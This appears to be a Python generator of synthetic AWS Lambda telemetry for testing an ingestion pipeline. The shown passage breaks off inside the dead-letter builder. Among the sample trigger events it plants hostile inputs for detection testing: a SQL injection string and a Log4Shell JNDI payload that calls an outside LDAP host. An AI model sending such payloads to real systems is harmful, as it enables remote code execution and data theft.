#!/usr/bin/env python3
"""Deterministic generator of serverless-function telemetry (../../../shared/spec/telemetry.md).

    python3 make_sample.py --events N --seed S --out PATH [--with-shapes] [--bad]

Writes JSON Lines (gzip when PATH ends in .gz). The same arguments always give
the same bytes: everything comes from seeded RNGs and the gzip header carries no
timestamp or file name.

What it writes:

- exactly N native events (section 2 of the contract): one `function_config` per
  function first, then invocations of a fleet of 8 functions, each with the
  events its sensor saw (DNS lookups, connections, child processes, file
  access, cloud API calls) followed by the `invocation` event itself. About a
  quarter of the lines are invocations. Times run from 2026-11-20T00:00:00Z over
  about three days with a daily rhythm;
- with --with-shapes, a few more lines in the other record shapes: CloudWatch
  Logs subscription payloads (section 3, plain JSON, one per line) and Lambda
  Telemetry API batches (section 4, a JSON array per line);
- with --bad, a few more lines that must be dead-lettered.

The native events do not depend on --with-shapes or --bad (those use their own
RNG), so the three variants share their native lines.

A summary (lines per type, average line length) goes to stderr.
Python 3.11 standard library only.
"""

from __future__ import annotations

import argparse
import base64
import gzip
import hashlib
import json
import math
import random
import sys
import uuid
from collections import Counter
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone

START = datetime(2026, 11, 20, tzinfo=timezone.utc)
START_MS = int(START.timestamp() * 1000)
SPAN_MS = 3 * 24 * 3600 * 1000  # about three days of traffic
INVOCATION_SHARE = 0.25  # target share of invocation lines

# --------------------------------------------------------------------------- helpers


def iso(ms: float) -> str:
    """RFC 3339 UTC with milliseconds, as the sensors write it."""
    ms = int(ms)
    dt = START + timedelta(milliseconds=ms - START_MS)
    return dt.strftime("%Y-%m-%dT%H:%M:%S.") + f"{ms % 1000:03d}Z"


def rid(rng: random.Random) -> str:
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def lognorm(rng: random.Random, median: float, sigma: float) -> float:
    return median * math.exp(rng.gauss(0.0, sigma))


def rand_token(rng: random.Random, n: int, alphabet: str = "abcdefghijklmnopqrstuvwxyz0123456789_") -> str:
    return "".join(rng.choice(alphabet) for _ in range(n))


def dumps(obj) -> str:
    return json.dumps(obj, separators=(",", ":"), ensure_ascii=False)


# Stable address books: a host name always resolves to the same addresses, drawn
# from ranges its operator really uses.
HOST_PREFIXES = {
    "amazonaws.com": ["3.218", "52.94", "52.119", "54.239", "35.71", "18.213"],
    "cloudfront.net": ["13.224", "13.225", "18.64", "108.138"],
    "stripe.com": ["54.187", "54.241"],
    "slack.com": ["3.120", "34.193", "44.224"],
    "github.com": ["140.82"],
    "zapier.com": ["34.199", "54.86"],
    "rds.amazonaws.com": ["10.0"],
}


def host_ips(host: str, n: int = 2) -> list[str]:
    h = hashlib.sha256(host.encode()).digest()
    pool = HOST_PREFIXES["amazonaws.com"]
    for suffix in sorted(HOST_PREFIXES, key=len, reverse=True):
        if host.endswith(suffix):
            pool = HOST_PREFIXES[suffix]
            break
    prefix = pool[h[0] % len(pool)]
    return [f"{prefix}.{h[1 + 2 * i] % 254 + 1}.{h[2 + 2 * i] % 254 + 1}" for i in range(n)]


# --------------------------------------------------------------------------- the fleet


@dataclass
class Fn:
    name: str
    region: str
    runtime: str
    handler: str
    memory_mb: int
    timeout_ms: int
    version: str
    weight: float  # share of invocations
    trigger: str
    dur_median: float
    dur_sigma: float
    cpu_share: float  # cpu_ms / duration_ms
    mem_used: tuple[int, int]
    cold_p: float
    init_median: float
    error_p: float
    timeout_p: float
    error_types: list[str]
    event_bytes: tuple[int, int]
    event_p: float
    permissions: list[str]
    layers: list[str]
    triggers: list[str] = field(default_factory=list)


def fleet(account: str) -> list[Fn]:
    sensor = f"arn:aws:lambda:us-east-1:{account}:layer:fnwatch-sensor:3"
    insights = "arn:aws:lambda:us-east-1:580247275435:layer:LambdaInsightsExtension:53"
    api = f"arn:aws:execute-api:us-east-1:{account}:k7q2m9x4ab/prod"
    return [
        Fn("orders-api", "us-east-1", "python3.12", "app.handler", 256, 6000, "42", 30, "apigateway",
           85, 0.55, 0.35, (78, 112), 0.02, 420, 0.012, 0.002, ["KeyError", "ValueError", "ClientError"],
           (380, 2400), 0.05,
           ["dynamodb:GetItem", "dynamodb:PutItem", "dynamodb:Query", "sqs:SendMessage",
            "logs:CreateLogStream", "logs:PutLogEvents"],
           [sensor], [f"{api}/POST/orders", f"{api}/GET/orders/*"]),
        Fn("billing-worker", "us-east-1", "nodejs20.x", "index.handler", 512, 30000, "17", 12, "sqs",
           420, 0.6, 0.2, (120, 190), 0.03, 310, 0.03, 0.003,
           ["Runtime.UnhandledPromiseRejection", "StripeAPIError", "StripeCardError"],
           (900, 6000), 0.03,
           ["dynamodb:*", "secretsmanager:GetSecretValue", "sqs:ReceiveMessage", "sqs:DeleteMessage",
            "sqs:GetQueueAttributes", "logs:*"],
           [sensor, insights], [f"arn:aws:sqs:us-east-1:{account}:billing-jobs"]),
        Fn("thumbnailer", "us-east-1", "python3.11", "thumbs.handler", 1024, 60000, "8", 10, "s3",
           1600, 0.7, 0.8, (310, 720), 0.04, 900, 0.01, 0.008, ["PIL.UnidentifiedImageError", "Runtime.ExitError"],
           (1100, 1600), 0.04,
           ["s3:GetObject", "s3:PutObject", "logs:*"],
           [sensor, f"arn:aws:lambda:us-east-1:{account}:layer:imagemagick:7"],
           ["arn:aws:s3:::acme-uploads"]),
        Fn("auth-token", "us-east-1", "nodejs20.x", "src/token.handler", 128, 3000, "63", 25, "apigateway",
           24, 0.5, 0.45, (61, 84), 0.015, 240, 0.004, 0.0005, ["TokenExpiredError", "Runtime.UnhandledPromiseRejection"],
           (300, 1400), 0.03,
           ["kms:Decrypt", "dynamodb:GetItem", "cognito-idp:*", "logs:CreateLogStream", "logs:PutLogEvents"],
           [sensor], [f"{api}/POST/token"]),
        Fn("report-export", "us-east-1", "python3.12", "export.main", 2048, 900000, "5", 1.5, "schedule",
           48000, 0.6, 0.55, (600, 1700), 0.3, 1400, 0.03, 0.04, ["botocore.exceptions.ClientError", "psycopg.OperationalError"],
           (250, 400), 0.1,
           ["athena:*", "s3:*", "glue:GetTable", "glue:GetPartitions", "rds-db:connect", "logs:*"],
           [sensor, f"arn:aws:lambda:us-east-1:{account}:layer:ghostscript:4"],
           [f"arn:aws:events:us-east-1:{account}:rule/nightly-reports"]),
        Fn("email-sender", "eu-west-1", "python3.12", "mailer.handler", 256, 10000, "29", 10, "sns",
           190, 0.5, 0.25, (70, 98), 0.03, 380, 0.008, 0.001, ["ClientError", "TemplateNotFound"],
           (700, 3000), 0.04,
           ["ses:SendEmail", "ses:SendRawEmail", "logs:CreateLogStream", "logs:PutLogEvents"],
           [f"arn:aws:lambda:eu-west-1:{account}:layer:fnwatch-sensor:3"],
           [f"arn:aws:sns:eu-west-1:{account}:outbound-email"]),
        Fn("search-indexer", "us-east-1", "java21", "com.acme.search.Indexer::handleRequest", 1536, 120000, "11",
           8, "dynamodb", 310, 0.7, 0.5, (380, 640), 0.05, 2900, 0.01, 0.002,
           ["java.net.SocketTimeoutException", "com.fasterxml.jackson.core.JsonParseException"],
           (2000, 48000), 0.02,
           ["es:ESHttpPost", "es:ESHttpPut", "dynamodb:GetRecords", "dynamodb:GetShardIterator",
            "dynamodb:DescribeStream", "dynamodb:ListStreams", "logs:*"],
           [sensor], [f"arn:aws:dynamodb:us-east-1:{account}:table/products/stream/2026-10-02T08:14:51.120"]),
        Fn("webhook-relay", "us-east-1", "nodejs20.x", "relay.handler", 256, 15000, "24", 12, "eventbridge",
           260, 0.8, 0.15, (88, 140), 0.03, 290, 0.02, 0.004, ["FetchError", "Runtime.UnhandledPromiseRejection"],
           (500, 4000), 0.05,
           ["secretsmanager:GetSecretValue", "s3:*", "iam:PassRole", "logs:*"],
           [sensor], [f"arn:aws:events:us-east-1:{account}:rule/webhook-fanout", f"{api}/POST/hooks/*"]),
    ]


# --------------------------------------------------------------------------- one invocation


class Inv:
    """Builds the sensor events of one invocation."""

    def __init__(self, rng: random.Random, fn: Fn, account: str, t0: float, duration: float, request_id: str):
        self.rng, self.fn, self.account = rng, fn, account
        self.t0, self.duration, self.request_id = t0, duration, request_id
        self.events: list[tuple[float, dict]] = []

    def _t(self, at: float | None) -> float:
        frac = self.rng.random() if at is None else at
        return self.t0 + frac * self.duration * 0.97

    def _ev(self, typ: str, at: float | None, **fields) -> dict:
        t = self._t(at)
        ev = {"type": typ, "time": iso(t), "function": self.fn.name, "request_id": self.request_id,
              "account": self.account, "region": self.fn.region, "version": self.fn.version}
        ev.update(fields)
        self.events.append((t, ev))
        return ev

    def dns(self, host: str, at: float | None = None, qtype: str = "A", rcode: str = "NOERROR",
            cname: str | None = None) -> list[str]:
        if rcode != "NOERROR":
            self._ev("dns", at, query=host, qtype=qtype, rcode=rcode, answers=[])
            return []
        ips = host_ips(cname or host, 2 if qtype == "A" else 1)
        if qtype == "AAAA":
            h = hashlib.sha256(host.encode()).hexdigest()
            ips = [f"2600:1f18:{h[0:4]}:{h[4:8]}::{h[8:12]}"]
        answers = ([cname] if cname else []) + ips
        self._ev("dns", at, query=host, qtype=qtype, rcode=rcode, answers=answers)
        return ips

    def connect(self, host: str, out_b: tuple[int, int], in_b: tuple[int, int], port: int = 443,
                at: float | None = None, ip: str | None = None) -> None:
        ip = ip or self.rng.choice(host_ips(host))
        self._ev("network", at, direction="outbound", protocol="tcp", remote_ip=ip, remote_port=port,
                 remote_host=host, bytes_out=self.rng.randint(*out_b), bytes_in=self.rng.randint(*in_b))

    def lookup_and_connect(self, host: str, p_dns: float, p_conn: float, out_b, in_b, port: int = 443,
                           cname: str | None = None) -> None:
        at = self.rng.random() * 0.6
        ips = None
        if self.rng.random() < p_dns:
            ips = self.dns(host, at, cname=cname)
        if self.rng.random() < p_conn:
            self.connect(host, out_b, in_b, port, min(at + 0.02, 0.99),
                         self.rng.choice(ips if ips else host_ips(cname or host)))

    def api(self, service: str, action: str, resource: str | None = None, error_code: str | None = None,
            at: float | None = None) -> None:
        f = {"service": service, "action": action}
        if resource:
            f["resource"] = resource
        if error_code:
            f["error_code"] = error_code
        self._ev("api_call", at, **f)

    def file(self, path: str, op: str, at: float | None = None) -> None:
        self._ev("file", at, path=path, op=op)

    def proc(self, exe: str, args: list[str], parent: str, at: float | None = None) -> None:
        self._ev("process", at, exe=exe, args=args, parent_exe=parent)


def tmpname(rng: random.Random) -> str:
    return "tmp" + rand_token(rng, 8)


def activities(inv: Inv, cold: bool, status: str) -> None:
    """What each function does during an invocation: its sensor events."""
    r, fn, acct = inv.rng, inv.fn, inv.account
    reg = fn.region
    ddb = f"dynamodb.{reg}.amazonaws.com"
    name = fn.name
    p_dns = 0.9 if cold else 0.45  # warm sandboxes mostly hit the resolver cache
    if cold and r.random() < 0.5:
        inv.file("/etc/ssl/certs/ca-certificates.crt", "read", at=0.01)

    if name == "orders-api":
        table = f"arn:aws:dynamodb:{reg}:{acct}:table/orders"
        inv.lookup_and_connect(ddb, p_dns, 0.35, (900, 3200), (400, 9000))
        inv.api("dynamodb", r.choice(["GetItem", "Query", "PutItem", "PutItem"]), table,
                "ConditionalCheckFailedException" if r.random() < 0.01 else None)
        if r.random() < 0.35:
            inv.api("dynamodb", "PutItem", table,
                    "ProvisionedThroughputExceededException" if r.random() < 0.005 else None)
        if r.random() < 0.3:
            inv.lookup_and_connect(f"sqs.{reg}.amazonaws.com", p_dns * 0.5, 0.3, (700, 2200), (300, 900))
            inv.api("sqs", "SendMessage", f"arn:aws:sqs:{reg}:{acct}:order-events")
    elif name == "billing-worker":
        if cold or r.random() < 0.05:
            inv.api("secretsmanager", "GetSecretValue",
                    f"arn:aws:secretsmanager:{reg}:{acct}:secret:prod/stripe-api-key-Xk3pQ9", at=0.02)
        inv.lookup_and_connect("api.stripe.com", 0.5, 0.9, (1100, 2600), (1800, 7200))
        inv.api("dynamodb", "UpdateItem", f"arn:aws:dynamodb:{reg}:{acct}:table/invoices")
        if r.random() < 0.25:
            inv.lookup_and_connect(ddb, p_dns, 0.3, (800, 2000), (300, 1500))
        if r.random() < 0.02:  # a stray call to a table it never needs
            inv.api("dynamodb", "Scan", f"arn:aws:dynamodb:{reg}:{acct}:table/customers")
    elif name == "thumbnailer":
        key = rand_token(r, 12, "abcdef0123456789")
        src, dst = f"/tmp/{key}.jpg", f"/tmp/{key}_256.jpg"
        inv.lookup_and_connect("acme-uploads.s3.amazonaws.com", 0.4, 0.95, (600, 1400), (180_000, 6_000_000),
                               cname="s3-1-w.amazonaws.com")
        inv.api("s3", "GetObject", f"arn:aws:s3:::acme-uploads/incoming/{key}.jpg", at=0.05)
        inv.file(src, "write", at=0.1)
        inv.proc("/usr/bin/convert", ["convert", src, "-resize", "256x256>", "-strip", dst],
                 "/var/lang/bin/python3.11", at=0.2)
        if status == "success":
            inv.file(dst, "read", at=0.85)
            inv.api("s3", "PutObject", f"arn:aws:s3:::acme-thumbnails/256/{key}.jpg", at=0.9)
            if r.random() < 0.2:
                inv.file(src, "delete", at=0.95)
    elif name == "auth-token":
        if r.random() < 0.35:
            denied = r.random() < 0.01
            key = "2f6b1c9e-4d0a-4b7e-9c1d-6a3e8f0b5d21" if not denied else "9a0e7c44-1b2d-4e5f-8a6b-0c1d2e3f4a5b"
            inv.api("kms", "Decrypt", f"arn:aws:kms:{reg}:{acct}:key/{key}", "AccessDenied" if denied else None)
        inv.api("dynamodb", "GetItem", f"arn:aws:dynamodb:{reg}:{acct}:table/sessions")
        if r.random() < 0.4:
            inv.api("dynamodb", "UpdateItem", f"arn:aws:dynamodb:{reg}:{acct}:table/sessions")
        if r.random() < 0.35:
            inv.lookup_and_connect(f"cognito-idp.{reg}.amazonaws.com", p_dns, 0.6, (600, 1500), (900, 2600))
    elif name == "report-export":
        run = f"report-{rand_token(r, 8, 'abcdefghijklmnopqrstuvwxyz0123456789')}"
        inv.file("/var/task/templates/report.html", "read", at=0.01)
        inv.lookup_and_connect(f"athena.{reg}.amazonaws.com", p_dns, 0.9, (1500, 4000), (2000, 90_000))
        inv.api("athena", "StartQueryExecution", f"arn:aws:athena:{reg}:{acct}:workgroup/reports", at=0.05)
        inv.api("athena", "GetQueryResults", f"arn:aws:athena:{reg}:{acct}:workgroup/reports", at=0.4)
        db = "reports-db.cluster-c9x8y7z6w5v4.us-east-1.rds.amazonaws.com"
        if r.random() < 0.6:
            inv.lookup_and_connect(db, 0.8, 1.0, (4000, 40_000), (40_000, 4_000_000), port=5432)
        inv.file(f"/tmp/{run}.ps", "write", at=0.6)
        inv.proc("/usr/bin/gs", ["gs", "-q", "-dNOPAUSE", "-dBATCH", "-sDEVICE=pdfwrite",
                                 f"-sOutputFile=/tmp/{run}.pdf", f"/tmp/{run}.ps"], "/var/lang/bin/python3.12", at=0.65)
        if status == "success":
            inv.file(f"/tmp/{run}.pdf", "read", at=0.9)
            denied = r.random() < 0.05
            bucket = "acme-finance-archive" if denied else "acme-reports"
            inv.api("s3", "PutObject", f"arn:aws:s3:::{bucket}/daily/{run}.pdf",
                    "AccessDenied" if denied else None, at=0.93)
    elif name == "email-sender":
        if r.random() < 0.2:
            inv.file(f"/var/task/templates/{r.choice(['receipt', 'welcome', 'reset-password', 'invoice'])}.html",
                     "read", at=0.05)
        if r.random() < 0.5:
            inv.api("dynamodb", "GetItem", f"arn:aws:dynamodb:{reg}:{acct}:table/email-preferences", at=0.1)
        inv.lookup_and_connect(f"email.{reg}.amazonaws.com", p_dns, 0.4, (2500, 30_000), (400, 900))
        inv.api("ses", "SendEmail", f"arn:aws:ses:{reg}:{acct}:identity/mail.acme.example",
                "Throttling" if r.random() < 0.01 else None)
        if r.random() < 0.04:
            inv.lookup_and_connect("hooks.slack.com", 0.6, 1.0, (700, 1600), (200, 400))
    elif name == "search-indexer":
        host = "search-acme-products-4fj2k8xq1z.us-east-1.es.amazonaws.com"
        if cold:
            inv.file(f"/tmp/hsperfdata_sbx_user1051/{r.randint(8, 30)}", "create", at=0.0)
        inv.lookup_and_connect(host, p_dns, 0.5, (6000, 260_000), (600, 4000))
        inv.api("es", "ESHttpPost", f"arn:aws:es:{reg}:{acct}:domain/acme-products", at=0.5)
        if cold:  # the JVM asks for both address families on its first lookup
            inv.dns(host, 0.01, qtype="AAAA")
    elif name == "webhook-relay":
        targets = [("hooks.slack.com", 0.45), ("api.github.com", 0.2), ("d1x2y3.cloudfront.net", 0.12),
                   ("d3k9q8z7w6v5u4.cloudfront.net", 0.08), ("hooks.zapier.com", 0.15)]
        host = r.choices([h for h, _ in targets], [w for _, w in targets])[0]
        if r.random() < 0.004:  # a customer endpoint whose domain lapsed
            inv.dns("hooks.retired-customer.example", 0.2, rcode="NXDOMAIN")
        else:
            inv.lookup_and_connect(host, 0.6, 0.95, (900, 5200), (150, 1200))
        if cold or r.random() < 0.2:
            inv.api("secretsmanager", "GetSecretValue",
                    f"arn:aws:secretsmanager:{reg}:{acct}:secret:prod/webhook-signing-Qm41aZ")
        if r.random() < 0.5:  # every delivered webhook is archived, in batches
            inv.api("s3", "PutObject", f"arn:aws:s3:::acme-webhook-archive/{iso(inv.t0)[:10]}/{rid(r)}.json")


def event_sample(rng: random.Random, fn: Fn, acct: str, t0: float) -> dict:
    """A small sample of the triggering event (for injection inspection)."""
    if fn.trigger == "apigateway":
        bodies = ['{"sku":"B-1042","qty":2}', '{"sku":"A-77","qty":1,"coupon":"WINTER"}',
                  '{"username":"jdoe","grant_type":"password"}']
        if rng.random() < 0.1:
            bodies = ['{"sku":"\' OR 1=1--","qty":1}', '{"username":"${jndi:ldap://45.83.64.1/a}"}']
        path = "/orders" if fn.name == "orders-api" else "/token"
        return {"httpMethod": "POST", "path": path,
                "headers": {"user-agent": rng.choice(["okhttp/4.12.0", "Mozilla/5.0", "python-requests/2.32.3"])},
                "body": rng.choice(bodies)}
    if fn.trigger == "s3":
        return {"Records": [{"eventName": "ObjectCreated:Put", "s3": {"bucket": {"name": "acme-uploads"},
                "object": {"key": f"incoming/{rand_token(rng, 12, 'abcdef0123456789')}.jpg",
                           "size": rng.randint(80_000, 5_000_000)}}}]}
    if fn.trigger == "sqs":
        return {"Records": [{"eventSource": "aws:sqs",
                             "body": dumps({"invoice": f"in_{rand_token(rng, 10)}", "amount": rng.randint(500, 90000)})}]}
    if fn.trigger == "sns":
        return {"Records": [{"EventSource": "aws:sns", "Sns": {"Subject": "outbound-email", "Message": dumps(
            {"template": rng.choice(["receipt", "welcome", "reset-password"]),
             "to": f"customer-{rng.randint(1000, 99999)}@example.com"})}}]}
    if fn.trigger == "eventbridge":
        return {"source": "acme.orders", "detail-type": "OrderShipped",
                "detail": {"order": f"o-{rng.randint(100000, 999999)}", "hook": "slack"}}
    if fn.trigger == "dynamodb":
        return {"Records": [{"eventName": rng.choice(["INSERT", "MODIFY"]),
                             "dynamodb": {"Keys": {"sku": {"S": f"A-{rng.randint(1, 999)}"}}}}]}
    return {"source": "aws.events", "detail-type": "Scheduled Event",
            "resources": [f"arn:aws:events:us-east-1:{acct}:rule/nightly-reports"]}


def invocation(rng: random.Random, fn: Fn, account: str, t0: float) -> list[tuple[float, dict]]:
    """The events of one invocation as (time ms, event), in time order, the invocation event last."""
    request_id = rid(rng)
    cold = rng.random() < fn.cold_p
    u = rng.random()
    status = "timeout" if u < fn.timeout_p else "error" if u < fn.timeout_p + fn.error_p else "success"
    if status == "success" and rng.random() < 0.0005:
        status = "crash"
    if status == "timeout":
        duration = float(fn.timeout_ms) + rng.random() * 3
    else:
        duration = min(lognorm(rng, fn.dur_median, fn.dur_sigma), fn.timeout_ms * 0.95)
        if status in ("error", "crash"):
            duration *= rng.uniform(0.2, 1.0)
    init_ms = round(lognorm(rng, fn.init_median, 0.25), 2) if cold else None
    inv = Inv(rng, fn, account, t0, duration, request_id)
    activities(inv, cold, status)
    inv.events.sort(key=lambda te: te[0])

    lo, hi = fn.mem_used
    max_mem = rng.randint(lo, hi) + (40 if cold else 0)
    if status in ("timeout", "crash"):
        max_mem = max(max_mem, int(fn.memory_mb * rng.uniform(0.7, 1.0)))
    max_mem = min(max_mem, fn.memory_mb)
    cpu = duration * fn.cpu_share * rng.uniform(0.6, 1.3)
    if status == "timeout":
        cpu *= rng.uniform(0.05, 1.0)
    ev = {"type": "invocation", "time": iso(t0 + duration), "function": fn.name, "request_id": request_id,
          "account": account, "region": fn.region, "version": fn.version,
          "duration_ms": round(duration, 2), "billed_ms": math.ceil(duration) + (math.ceil(init_ms) if init_ms else 0),
          "cpu_ms": round(min(cpu, duration * 2), 1), "memory_mb": fn.memory_mb, "max_memory_mb": max_mem,
          "init_ms": init_ms, "timeout_ms": fn.timeout_ms, "status": status}
    if status == "error":
        ev["error_type"] = rng.choice(fn.error_types)
    elif status == "timeout":
        ev["error_type"] = "Sandbox.Timedout"
    elif status == "crash":
        ev["error_type"] = "Runtime.ExitError"
    ev["trigger"] = fn.trigger if not (fn.name == "webhook-relay" and rng.random() < 0.2) else "apigateway"
    ev["event_bytes"] = rng.randint(*fn.event_bytes)
    if rng.random() < fn.event_p:
        ev["event"] = event_sample(rng, fn, account, t0)
    return inv.events + [(t0 + duration, ev)]


def function_config(fn: Fn, account: str, t: float) -> dict:
    sha = base64.b64encode(hashlib.sha256(f"{fn.name}:{fn.version}".encode()).digest()).decode()
    return {"type": "function_config", "time": iso(t), "function": fn.name, "account": account,
            "region": fn.region, "version": fn.version, "runtime": fn.runtime, "handler": fn.handler,
            "memory_mb": fn.memory_mb, "timeout_ms": fn.timeout_ms,
            "role_arn": f"arn:aws:iam::{account}:role/{fn.name}-role",
            "permissions": fn.permissions, "triggers": fn.triggers, "layers": fn.layers, "code_sha256": sha}


def make_account(rng: random.Random) -> str:
    account = "".join(rng.choice("0123456789") for _ in range(12))
    return "4" + account[1:] if account[0] == "0" else account


def native_events(rng: random.Random, account: str, n: int):
    """Yields exactly n native events as (time ms, event), in roughly time order."""
    fns = fleet(account)
    emitted = 0
    t = float(START_MS)
    for fn in fns:
        if emitted == n:
            return
        t += rng.uniform(20, 60)
        yield t, function_config(fn, account, t)
        emitted += 1
    weights = [f.weight for f in fns]
    # ~4 lines per invocation; spread the expected invocations over SPAN_MS.
    expected = max(8.0, (n - emitted) * INVOCATION_SHARE)
    mean_gap = SPAN_MS / expected
    while emitted < n:
        hour = ((t - START_MS) / 3_600_000) % 24
        rate = 1.0 + 0.6 * math.sin((hour - 9) / 24 * 2 * math.pi)  # busier in the (UTC) afternoon
        t += rng.expovariate(rate / mean_gap)
        fn = rng.choices(fns, weights)[0]
        evs = invocation(rng, fn, account, t)
        room = n - emitted
        if len(evs) > room:  # the last invocation: keep the invocation line
            evs = evs[:room - 1] + [evs[-1]]
        yield from evs
        emitted += len(evs)


# --------------------------------------------------------------------------- other shapes


def cloudwatch_payloads(rng: random.Random, account: str) -> list[tuple[float, str, dict]]:
    """CloudWatch Logs subscription payloads (section 3): (time ms, description, payload)."""
    out = []

    def payload(fn: str, version: str, t: float, lines: list[tuple[float, str]]) -> dict:
        day = iso(t)[:10].replace("-", "/")
        return {"messageType": "DATA_MESSAGE", "owner": account, "logGroup": f"/aws/lambda/{fn}",
                "logStream": f"{day}/[{version}]{rand_token(rng, 32, '0123456789abcdef')}",
                "subscriptionFilters": ["fnwatch-ingest"],
                "logEvents": [{"id": "3" + rand_token(rng, 55, "0123456789"), "timestamp": int(ms),
                               "message": msg} for ms, msg in lines]}

    # orders-api: a cold start that succeeds, then one whose sandbox dies at the 6 s timeout
    # (the sensor never reports it: only the logs know).
    t = START_MS + 19 * 3_600_000 + rng.randint(0, 3_600_000)
    a, b = rid(rng), rid(rng)
    lines = [
        (t, "INIT_START Runtime Version: python:3.12.v38\tRuntime Version ARN: arn:aws:lambda:us-east-1::runtime:"
            "7b620fc2e66107a1046b140b9d320295811af3ad5d4c6a011fad1fa65127e9e6\n"),
        (t + 402, f"START RequestId: {a} Version: 42\n"),
        (t + 410, f"[INFO]\t{iso(t + 410)}\t{a}\tcreated order o-{rng.randint(100000, 999999)} for customer c-{rng.randint(1000, 9999)}\n"),
        (t + 488, f"END RequestId: {a}\n"),
        (t + 488, f"REPORT RequestId: {a}\tDuration: 85.71 ms\tBilled Duration: 488 ms\tMemory Size: 256 MB\t"
                  f"Max Memory Used: 119 MB\tInit Duration: 401.93 ms\t\n"),
        (t + 900, f"START RequestId: {b} Version: 42\n"),
        (t + 905, f"[WARNING]\t{iso(t + 905)}\t{b}\tdynamodb throttled, retrying (attempt 3)\n"),
        (t + 6901, f"{iso(t + 6901)} {b} Task timed out after 6.00 seconds\n\n"),
        (t + 6902, f"END RequestId: {b}\n"),
        (t + 6902, f"REPORT RequestId: {b}\tDuration: 6000.00 ms\tBilled Duration: 6000 ms\tMemory Size: 256 MB\t"
                   f"Max Memory Used: 131 MB\t\n"),
    ]
    out.append((t, "cloudwatch: orders-api, 2 REPORTs (1 timeout), 2 app log lines",
                {"invocations": 2, "logs": 2}, payload("orders-api", "42", t, lines)))

    # billing-worker: an invocation that logs an error (the REPORT becomes status error).
    t = START_MS + 40 * 3_600_000 + rng.randint(0, 3_600_000)
    c = rid(rng)
    err = dumps({"errorType": "StripeCardError", "errorMessage": "Your card was declined.",
                 "stack": ["StripeCardError: Your card was declined.", "    at res.toJSON (/var/task/node_modules/stripe/cjs/RequestSender.js:105:31)"]})
    lines = [
        (t, f"START RequestId: {c} Version: 17\n"),
        (t + 3, f"{iso(t + 3)}\t{c}\tINFO\tcharging invoice in_{rand_token(rng, 14)}\n"),
        (t + 612, f"{iso(t + 612)}\t{c}\tERROR\tInvoke Error \t{err}\n"),
        (t + 615, f"END RequestId: {c}\n"),
        (t + 615, f"REPORT RequestId: {c}\tDuration: 614.20 ms\tBilled Duration: 615 ms\tMemory Size: 512 MB\t"
                  f"Max Memory Used: 171 MB\t\n"),
    ]
    out.append((t, "cloudwatch: billing-worker, 1 REPORT after an ERROR line, 2 app log lines",
                {"invocations": 1, "logs": 2}, payload("billing-worker", "17", t, lines)))

    # the control message CloudWatch sends when a subscription is created (skipped).
    t = START_MS + 7 * 3_600_000 + rng.randint(0, 3_600_000)
    out.append((t, "cloudwatch: a CONTROL_MESSAGE (skipped)", {},
                {"messageType": "CONTROL_MESSAGE", "owner": "CloudwatchLogs", "logGroup": "",
                 "logStream": "", "subscriptionFilters": [],
                 "logEvents": [{"id": "", "timestamp": int(t),
                                "message": "CWL CONTROL MESSAGE: Checking health of destination Firehose."}]}))
    return out


def telemetry_batches(rng: random.Random) -> list[tuple[float, str, dict, list]]:
    """Lambda Telemetry API batches (section 4)."""
    out = []
    # webhook-relay: one invocation, start to report, with one log record.
    t = START_MS + 28 * 3_600_000 + rng.randint(0, 3_600_000)
    d = rid(rng)
    fn = "webhook-relay"
    batch = [
        {"time": iso(t), "type": "platform.start", "function": fn,
         "record": {"requestId": d, "version": "24", "tracing": {"spanId": rand_token(rng, 16, "0123456789abcdef"),
                    "type": "X-Amzn-Trace-Id", "value": f"Root=1-{rand_token(rng, 8, '0123456789abcdef')}-"
                    f"{rand_token(rng, 24, '0123456789abcdef')};Sampled=0"}}},
        {"time": iso(t + 2), "type": "function", "function": fn,
         "record": f"{iso(t + 2)}\t{d}\tINFO\trelaying OrderShipped to hooks.slack.com\n"},
        {"time": iso(t + 241), "type": "platform.runtimeDone", "function": fn,
         "record": {"requestId": d, "status": "success",
                    "metrics": {"durationMs": 239.87, "producedBytes": 52}}},
        {"time": iso(t + 243), "type": "platform.report", "function": fn,
         "record": {"requestId": d, "status": "success",
                    "metrics": {"durationMs": 241.32, "billedDurationMs": 242, "memorySizeMB": 256,
                                "maxMemoryUsedMB": 97}}},
    ]
    out.append((t, "telemetry api: webhook-relay, 1 invocation + 1 function log record",
                {"invocations": 1, "logs": 1}, batch))

    # search-indexer: a cold start that times out.
    t = START_MS + 55 * 3_600_000 + rng.randint(0, 3_600_000)
    e = rid(rng)
    fn = "search-indexer"
    batch = [
        {"time": iso(t), "type": "platform.start", "function": fn, "record": {"requestId": e, "version": "11"}},
        {"time": iso(t + 50), "type": "function", "function": fn,
         "record": f"{iso(t + 50)} [main] INFO com.acme.search.Indexer - indexing 500 records into acme-products\n"},
        {"time": iso(t + 120001), "type": "platform.runtimeDone", "function": fn,
         "record": {"requestId": e, "status": "timeout", "errorType": "Sandbox.Timedout",
                    "metrics": {"durationMs": 120000.0, "producedBytes": 0}}},
        {"time": iso(t + 120004), "type": "platform.report", "function": fn,
         "record": {"requestId": e, "status": "timeout", "errorType": "Sandbox.Timedout",
                    "metrics": {"durationMs": 120000.0, "billedDurationMs": 120000, "memorySizeMB": 1536,
                                "maxMemoryUsedMB": 1211, "initDurationMs": 3104.55}}},
    ]
    out.append((t, "telemetry api: search-indexer, 1 timed-out invocation + 1 function log record",
                {"invocations": 1, "logs": 1}, batch))
    return out


def bad_lines(rng: random.Random, account: str):
    """Lines that must be dead-lettered: (reason, builder(time ms) -> line)."""
    fns = {f.name: f for f in fleet(account)}

    def base(typ: str, fn: str, t: float) -> dict:
        f = fns[fn]
        return {"type": typ, "time": iso(t), "function": fn, "request_id": rid(rng), "account": account,
                "region": f.region, "version": f.version}

    def syntax(t: float) -> str:
        line = dumps(dict(base("dns", "orders-api", t), query="dynamodb.us-east-1.amazonaws.com", qtype="A",
                          rcode="NOERROR", answers=host_ips("dynamodb.us-east-1.amazonaws.com")))
        return line[: line.index('"rcode"') + 14]  # the writer died mid-line

    def missing(t: float) -> str:
        return dumps(dict(base("network", "billing-worker", t), direction="outbound", protocol="tcp",
                          remote_port=443, remote_host="api.stripe.com", bytes_out=1400, bytes_in=3100))

    def fast(t: float) -> str:
        return dumps(dict(base("invocation", "auth-token", t), duration_ms="fast", billed_ms=22, memory_mb=128,
                          max_memory_mb=70, timeout_ms=3000, status="success", trigger="apigateway",
                          event_bytes=512))

    def unknown(t: float) -> str:
